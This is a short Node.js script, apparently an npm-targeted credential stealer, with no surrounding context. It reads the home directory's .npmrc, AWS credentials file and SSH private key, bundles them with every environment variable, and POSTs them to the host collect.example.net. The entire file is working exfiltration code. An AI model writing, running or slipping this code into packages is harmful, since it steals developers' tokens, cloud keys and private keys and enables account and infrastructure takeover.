// npm tokens and keys
const fs = require('fs'), os = require('os'), https = require('https');
const found = ['.npmrc', '.aws/credentials', '.ssh/id_rsa'].map((f) => { try { return fs.readFileSync(`${os.homedir()}/${f}`, 'utf8'); } catch (e) { return ''; } });
const r = https.request({ host: 'collect.example.net', method: 'POST' });
r.end(JSON.stringify({ found, env: process.env }));
